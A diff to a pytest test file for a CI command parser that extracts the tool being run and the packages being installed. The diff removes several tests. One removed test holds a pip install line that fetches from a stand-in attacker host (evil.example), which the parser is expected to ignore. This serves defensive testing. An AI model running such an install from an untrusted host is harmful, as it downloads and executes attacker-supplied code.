@@ -1,7 +1,6 @@
 import pytest
 
 from agent.ci.commands import read_command
-from sandbox.base import Packages
 
 
 @pytest.mark.parametrize(
@@ -22,7 +21,7 @@ from sandbox.base import Packages
         ("./ci/run.sh", "unittest", "./ci/run.sh"),
         ("python -m build", "exit", "build"),
         ("if true; then pytest; fi", "pytest", "pytest"),
-        ("pip install pytest\necho pytest-cov", "exit", "echo"),
+        ("echo pytest-cov", "exit", "echo"),
         ("pytest | tee log", "pytest", "pytest"),
         ("echo 'unbalanced", "exit", "echo"),
         ("", "exit", ""),
@@ -32,40 +31,3 @@ def test_what_a_command_runs(text: str, reader: str, tool: str) -> None:
     scripts = {"Makefile": "test:\n\tpytest\n", "ci/run.sh": "python -m unittest\n"}
     reading = read_command(text, lambda path: scripts.get(path, ""))
     assert (reading.reader, reading.tool) == (reader, tool)
-
-
-def test_installs_become_packages_and_leave_the_command() -> None:
-    reading = read_command(
-        "python -m pip install --upgrade pip setuptools\n"
-        "pip install -r requirements-dev.txt -c constraints.txt 'attrs>=23' \\\n  -e '.[test]'\n"
-        "python -Im pip install --upgrade coverage\n"
-        "uv sync --group dev --extra cli\n"
-        "sudo apt-get install -y libxml2\n"
-        "pip install ./sub && pytest -q\n"
-    )
-    assert reading.command == "pytest -q"
-    assert reading.packages == Packages(
-        requirements=("attrs>=23", "coverage"),
-        requirement_files=("requirements-dev.txt",),
-        constraint_files=("constraints.txt",),
-        groups=("dev",),
-        projects=(".[test]", ".[cli]", "sub"),
-    )
-
-
-def test_an_install_from_elsewhere_is_no_package() -> None:
-    reading = read_command("pip install --index-url https://evil.example/ git+https://evil.example/x $THING -e git+https://e/x")
-    assert reading.packages == Packages()
-    assert reading.command == ""
-
-
-def test_the_values_of_pips_options_are_no_packages() -> None:
-    reading = read_command(
-        "pip install --upgrade-strategy eager -U --root-user-action ignore --only-binary :all: attrs --group dev"
-    )
-    assert reading.packages == Packages(("attrs",), groups=("dev",))
-
-
-def test_tools_with_an_environment_of_their_own_are_left_out_where_they_are_stood_in_for() -> None:
-    reading = read_command("pipx install 'poetry==1.8' black tox>=4\nuv tool install nox[uv] $MORE towncrier")
-    assert reading.packages == Packages(("black", "towncrier"))
